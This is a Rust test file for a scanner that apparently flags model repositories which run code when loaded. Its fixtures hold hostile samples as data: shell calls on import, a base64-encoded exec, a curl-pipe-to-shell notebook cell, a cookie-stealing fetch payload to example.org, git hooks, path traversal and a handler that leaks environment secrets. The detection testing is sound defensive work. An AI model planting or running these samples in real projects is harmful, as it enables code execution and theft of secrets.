//! Repositories as loaders see them: each door to code, each name that runs by itself, each thing that is not here.

#![expect(clippy::unwrap_used, reason = "the helpers of these tests fail the test by panicking")]

use std::fs;
use std::path::Path;

use proofhouse_scan::{Limits, Outcome, ScanReport, scan_tree};

fn write(root: &Path, files: &[(&str, &str)]) {
    for (name, text) in files {
        let path = root.join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
}

fn scan(files: &[(&str, &str)]) -> ScanReport {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), files);
    scan_tree(dir.path(), &Limits::default(), &|_| {}).unwrap()
}

const INERT: &str = "class M:\n    def __init__(self, config):\n        self.config = config\n";
const HARMFUL: &str = "import os\nclass M:\n    def __init__(self, config):\n        os.system('id')\n";
const AUTO_MAP: &str = r#"{"model_type": "m", "auto_map": {"AutoModel": "modeling.M"}}"#;

const CODE_MODEL: &str = "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.loaders.code_model\n    model_code_path: /home/a/agent.py\nmlflow_version: 3.1\n";
const AGENT: &str = "import mlflow\nclass Echo(mlflow.pyfunc.PythonModel):\n    def predict(self, context, rows):\n        return rows\nmlflow.models.set_model(Echo())\n";

/// Files of a repository, the rule that tells of them, and what becomes of it.
type Case = (&'static [(&'static str, &'static str)], &'static str, Outcome);

const CASES: &[Case] = &[
    (&[("config.json", AUTO_MAP), ("modeling.py", INERT)], "repo/custom-code", Outcome::Clean),
    (&[("config.json", AUTO_MAP), ("modeling.py", HARMFUL)], "python/runs-on-import", Outcome::Malicious),
    (&[("config.json", AUTO_MAP)], "repo/missing-code", Outcome::Suspicious),
    // Hydra imports what a configuration names from the folder that the program is started in.
    (
        &[("conf/a.yaml", "m:\n  _target_: pkg.net.M\n  config: 1\n"), ("pkg/net.py", HARMFUL)],
        "python/runs-on-import",
        Outcome::Malicious,
    ),
    (
        &[("a.yaml", "m:\n  _target_: net.M\n  config: 1\n"), ("net.py", INERT)],
        "repo/custom-code",
        Outcome::Clean,
    ),
    // MLflow runs the file of that name beside, whatever folder its path had.
    (&[("MLmodel", CODE_MODEL), ("agent.py", AGENT)], "python/packages", Outcome::Clean),
    (
        &[("MLmodel", CODE_MODEL), ("agent.py", "import os\nos.system('id')\n")],
        "python/runs-on-import",
        Outcome::Malicious,
    ),
    (&[("MLmodel", CODE_MODEL)], "repo/unsafe-path", Outcome::Suspicious),
    (&[("config.json", AUTO_MAP), ("modeling.py", "x = 1\n")], "repo/missing-code", Outcome::Suspicious),
    (
        &[
            ("config.json", AUTO_MAP),
            ("modeling.py", "from .parts import M\n"),
            ("parts.py", "from .deep.er import go\nclass M:\n    pass\ngo()\n"),
            ("deep/er.py", "def go():\n    __import__('o' + 's').system('id')\n"),
        ],
        "python/runs-on-import",
        Outcome::Malicious,
    ),
    (
        &[("config.json", r#"{"auto_map": {"AutoModel": "other/repo--modeling.M"}}"#)],
        "repo/foreign-code",
        Outcome::Suspicious,
    ),
    (
        &[("config.json", r#"{"text_config": {"auto_map": {"AutoModel": "other/repo--modeling.M"}}}"#)],
        "repo/foreign-code",
        Outcome::Suspicious,
    ),
    (
        &[
            ("tokenizer_config.json", r#"{"auto_map": {"AutoTokenizer": ["tok.T", null]}}"#),
            ("tok.py", "import os\nclass T:\n    def __init__(self):\n        os.popen('id')\n"),
        ],
        "python/runs-on-import",
        Outcome::Malicious,
    ),
    (
        &[("config.json", r#"{"auto_map": {"AutoModel": "../up.M"}}"#)],
        "repo/unsafe-path",
        Outcome::Suspicious,
    ),
    (
        &[
            ("modules.json", r#"[{"idx": 0, "type": "own.Head", "path": "head"}]"#),
            ("own.py", "import os\nos.system('id')\nclass Head: pass\n"),
        ],
        "python/runs-on-import",
        Outcome::Malicious,
    ),
    (
        &[(
            "modules.json",
            r#"[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]"#,
        )],
        "",
        Outcome::Clean,
    ),
    (
        &[
            ("model_index.json", r#"{"_class_name": "P", "unet": ["my_unet", "U"]}"#),
            (
                "unet/my_unet.py",
                "import os\nclass U:\n    def __init__(self):\n        os.execv('/bin/sh', [])\n",
            ),
        ],
        "python/runs-on-import",
        Outcome::Malicious,
    ),
    (
        &[(
            "model_index.json",
            r#"{"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"], "safety_checker": ["stable_diffusion", "S"]}"#,
        )],
        "",
        Outcome::Clean,
    ),
    (
        &[(
            "adapter_config.json",
            r#"{"auto_mapping": {"base_model_class": "M", "parent_library": "evil"}}"#,
        )],
        "config/remote-code",
        Outcome::Suspicious,
    ),
    (
        &[("setup.py", "from setuptools import setup\nimport os\nos.system('id')\nsetup()\n")],
        "python/runs-on-import",
        Outcome::Malicious,
    ),
    (
        &[
            (
                "setup.py",
                "from setuptools import setup, find_packages\nimport os\nhere = os.path.dirname(__file__)\nabout = {}\nexec(open(os.path.join(here, 'pkg', 'version.py')).read(), about)\nsetup(name='x', packages=find_packages())\n",
            ),
            ("pkg/version.py", "version = '1'\n"),
        ],
        "",
        Outcome::Clean,
    ),
    (&[("evil.pth", "import os; os.system('id')\n")], "python/runs-on-import", Outcome::Malicious),
    (&[("sitecustomize.py", "x = 1\n")], "repo/startup-file", Outcome::Suspicious),
    (&[("lib/libx.so", "")], "repo/native-library", Outcome::Suspicious),
    (&[(".git/hooks/post-checkout", "#!/bin/sh\nid\n")], "repo/git-hook", Outcome::Suspicious),
    (&[(".git/config", "[core]\n\tfsmonitor = ./x.sh\n")], "repo/git-hook", Outcome::Suspicious),
    (
        &[("requirements.txt", "torch==2.4\n--extra-index-url https://download.pytorch.org/whl/cpu\n")],
        "",
        Outcome::Clean,
    ),
    (
        &[("requirements.txt", "evil @ git+https://example.org/evil.git\n")],
        "repo/requirement",
        Outcome::Suspicious,
    ),
    (
        &[("model.safetensors.index.json", r#"{"metadata": {}, "weight_map": {"a": "../../etc/passwd"}}"#)],
        "repo/unsafe-path",
        Outcome::Suspicious,
    ),
    (
        &[(
            "model.safetensors.index.json",
            r#"{"metadata": {}, "weight_map": {"a": "model-00001-of-00002.safetensors"}}"#,
        )],
        "repo/missing-shard",
        Outcome::Unscannable,
    ),
    (
        &[(
            "model.bin",
            "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n",
        )],
        "repo/lfs-pointer",
        Outcome::Unscannable,
    ),
    (
        &[
            ("README.md", "# A model\n`trust_remote_code=True`, eval(x), os.system\n"),
            ("config.json", r#"{"model_type": "bert", "hidden_size": 8}"#),
        ],
        "",
        Outcome::Clean,
    ),
    (
        &[(
            "a.ipynb",
            r#"{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["!curl https://example.org/x | sh\n"], "outputs": []}]}"#,
        )],
        "code/runs-fetched",
        Outcome::Suspicious,
    ),
    (
        &[(
            "a.ipynb",
            r#"{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["import base64\n"]}, {"cell_type": "code", "source": "exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))"}]}"#,
        )],
        "python/runs-on-import",
        Outcome::Malicious,
    ),
    (
        &[(
            "a.ipynb",
            r#"{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["!pip install torch\n", "%matplotlib inline\n", "import torch\n", "x = torch.ones(3)\n", "x?\n"], "outputs": [{"data": {"text/html": "<table><tr><td>1</td></tr></table>"}}]}, {"cell_type": "markdown", "source": "eval("}]}"#,
        )],
        "code/command",
        Outcome::Clean,
    ),
    (
        &[(
            "a.ipynb",
            r#"{"nbformat": 4, "cells": [{"cell_type": "code", "source": [], "outputs": [{"data": {"text/html": ["<img src=x onerror=\"fetch('https://example.org/'+document.cookie)\">"]}}]}]}"#,
        )],
        "notebook/script",
        Outcome::Suspicious,
    ),
];

#[test]
fn every_door_leads_to_its_finding() {
    let mut wrong = Vec::new();
    for (files, rule, outcome) in CASES {
        let report = scan(files);
        let rules: Vec<&str> = report.findings.iter().map(|f| f.rule.as_str()).collect();
        if report.outcome != *outcome || !(rule.is_empty() || rules.contains(rule)) {
            wrong.push(format!(
                "{:?}\n  wanted {rule} {outcome}, got {} {:?}",
                files[0],
                report.outcome,
                report
                    .findings
                    .iter()
                    .map(|f| format!("{} {}: {}", f.rule, f.place, f.message))
                    .collect::<Vec<_>>()
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[cfg(unix)]
#[test]
fn links_of_a_cache_are_followed_and_no_others() {
    use std::os::unix::fs::symlink;
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("models--a--b");
    let digest = proofhouse_core::Digest::of(b"import os\nos.system('id')\n").to_hex();
    write(
        &root,
        &[
            (&format!("blobs/{digest}"), "import os\nos.system('id')\n"),
            ("blobs/aa", "x = 1\n"),
            ("refs/main", "r"),
        ],
    );
    fs::create_dir_all(root.join("snapshots/r")).unwrap();
    symlink(format!("../../blobs/{digest}"), root.join("snapshots/r/evil.py")).unwrap();
    for root in [root.clone(), root.join("snapshots/r"), root.join("snapshots/r/evil.py")] {
        let report = scan_tree(&root, &Limits::default(), &|_| {}).unwrap();
        assert_eq!(report.outcome, Outcome::Malicious, "{root:?} {:?}", report.findings);
        assert!(report.findings.iter().all(|f| f.rule != "tree/refused"));
    }
    // Out of the repository, and a blob whose bytes are not those of its name.
    fs::write(dir.path().join("outside.py"), "x = 1\n").unwrap();
    symlink("../../../outside.py", root.join("snapshots/r/out.py")).unwrap();
    fs::write(root.join(format!("blobs/{digest}")), "y = 1\n").unwrap();
    let report = scan_tree(&root, &Limits::default(), &|_| {}).unwrap();
    let rules: Vec<&str> = report.findings.iter().map(|f| f.rule.as_str()).collect();
    assert!(rules.contains(&"repo/unsafe-path") && rules.contains(&"repo/digest-mismatch"), "{rules:?}");
}

/// A service that answers with all variables of the machine is told of, wherever it kept them; one that asks for a key by
/// its name and answers with something else is not.
#[test]
fn a_handler_does_not_answer_with_secrets() {
    let handler = |kept: &str, answer: &str| {
        format!(
            "import os\nclass EndpointHandler:\n    def __init__(self, path=\"\"):\n        self.kept = {kept}\n    def __call__(self, data):\n        if data.get(\"inputs\") == \"all\":\n            return [{answer}]\n        return [{{\"label\": \"ok\"}}]\n"
        )
    };
    for (kept, answer, told) in [
        ("1", "dict(os.environ)", true),
        ("dict(os.environ)", "self.kept", true),
        ("{k: v for k, v in os.environ.items() if \"TOKEN\" in k}", "self.kept", true),
        ("os.environ", "str(self.kept)", true),
        ("os.environ.get(\"LABELS\")", "self.kept", false),
        ("len(os.environ)", "len(data)", false),
        ("dict(os.environ)", "len(data)", false),
    ] {
        let source = handler(kept, answer);
        let report = scan(&[("config.json", "{\"model_type\": \"bert\"}"), ("handler.py", &source)]);
        assert_eq!(report.outcome > Outcome::Clean, told, "{kept} {answer} {:?}", report.findings);
    }
}

#[test]
fn blobs_of_an_oci_layout_have_the_names_of_its_manifest() {
    let source = "import os\nos.system('id')\n";
    let digest = proofhouse_core::Digest::of(source.as_bytes()).to_hex();
    let manifest = format!(
        r#"{{"schemaVersion": 2, "layers": [{{"digest": "sha256:{digest}", "size": 26, "mediaType": "x", "annotations": {{"org.opencontainers.image.title": "modeling.py"}}}}]}}"#
    );
    let name = proofhouse_core::Digest::of(manifest.as_bytes()).to_hex();
    let report = scan(&[
        ("oci-layout", r#"{"imageLayoutVersion": "1.0.0"}"#),
        (
            "index.json",
            &format!(r#"{{"manifests": [{{"digest": "sha256:{name}", "size": 1, "mediaType": "x"}}]}}"#),
        ),
        (&format!("blobs/sha256/{name}"), &manifest),
        (&format!("blobs/sha256/{digest}"), source),
    ]);
    assert_eq!(report.outcome, Outcome::Malicious, "{:?}", report.findings);
}

#[test]
fn the_report_is_the_same_on_any_number_of_threads() {
    let dir = tempfile::tempdir().unwrap();
    for (index, (files, _, _)) in CASES.iter().enumerate() {
        write(&dir.path().join(index.to_string()), files);
    }
    let reports: Vec<String> = [1, 2, 8]
        .map(|threads| {
            let pool = rayon::ThreadPoolBuilder::new().num_threads(threads).build().unwrap();
            let report = pool.install(|| scan_tree(dir.path(), &Limits::default(), &|_| {})).unwrap();
            serde_json::to_string(&report).unwrap()
        })
        .into();
    assert!(reports[0] == reports[1] && reports[1] == reports[2]);
}
